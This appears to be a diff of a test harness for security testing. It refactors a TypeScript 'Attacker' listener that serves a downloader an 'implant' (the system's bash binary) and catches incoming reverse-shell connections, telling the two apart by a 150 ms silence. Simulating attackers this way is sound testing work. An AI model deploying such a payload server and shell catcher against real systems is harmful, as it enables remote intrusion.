@@ -8,40 +8,25 @@ import { LoopbackServer } from './loopback-server.ts';
  * Whoever sends a line that starts with GET gets the implant; any other connection is a shell that has come home.
  */
 export class Attacker implements AsyncDisposable {
-  #server: LoopbackServer | undefined;
-  #shell: Socket | undefined;
-  #shellHome: (socket: Socket) => void = () => {};
+  readonly #server: LoopbackServer;
   readonly #home: Promise<Socket>;
+  #shell: Socket | undefined;
 
-  private constructor() {
-    this.#home = new Promise((resolve) => {
-      this.#shellHome = resolve;
+  private constructor(server: LoopbackServer, home: Promise<Socket>) {
+    this.#server = server;
+    this.#home = home;
+    void home.then((socket) => {
+      this.#shell = socket;
     });
   }
 
   static async listen(): Promise<Attacker> {
-    const attacker = new Attacker();
-    attacker.#server = await LoopbackServer.listen((socket) => attacker.#accept(socket));
-    return attacker;
+    const { promise, resolve } = Promise.withResolvers<Socket>();
+    return new Attacker(await LoopbackServer.listen((socket) => accept(socket, resolve)), promise);
   }
 
   get port(): number {
-    return this.#server?.port ?? 0;
-  }
-
-  #accept(socket: Socket): void {
-    // The downloader speaks first; a shell waits to be told. 150 ms of silence tells them apart.
-    const silence = setTimeout(() => {
-      this.#shell = socket;
-      this.#shellHome(socket);
-    }, 150);
-    socket.once('data', (chunk) => {
-      if (!chunk.toString('latin1').startsWith('GET ')) return;
-      clearTimeout(silence);
-      if (chunk.includes('HTTP/'))
-        socket.write('HTTP/1.0 200 OK\r\nContent-Type: application/octet-stream\r\nConnection: close\r\n\r\n');
-      createReadStream('/bin/bash').pipe(socket);
-    });
+    return this.#server.port;
   }
 
   /** The reverse shell, once it is there. */
@@ -61,6 +46,18 @@ export class Attacker implements AsyncDisposable {
   }
 
   async [Symbol.asyncDispose](): Promise<void> {
-    await this.#server?.[Symbol.asyncDispose]();
+    await this.#server[Symbol.asyncDispose]();
   }
+}
+
+function accept(socket: Socket, shellHome: (socket: Socket) => void): void {
+  // The downloader speaks first; a shell waits to be told. 150 ms of silence tells them apart.
+  const silence = setTimeout(() => shellHome(socket), 150);
+  socket.once('data', (chunk) => {
+    if (!chunk.toString('latin1').startsWith('GET ')) return;
+    clearTimeout(silence);
+    if (chunk.includes('HTTP/'))
+      socket.write('HTTP/1.0 200 OK\r\nContent-Type: application/octet-stream\r\nConnection: close\r\n\r\n');
+    createReadStream('/bin/bash').pipe(socket);
+  });
 }
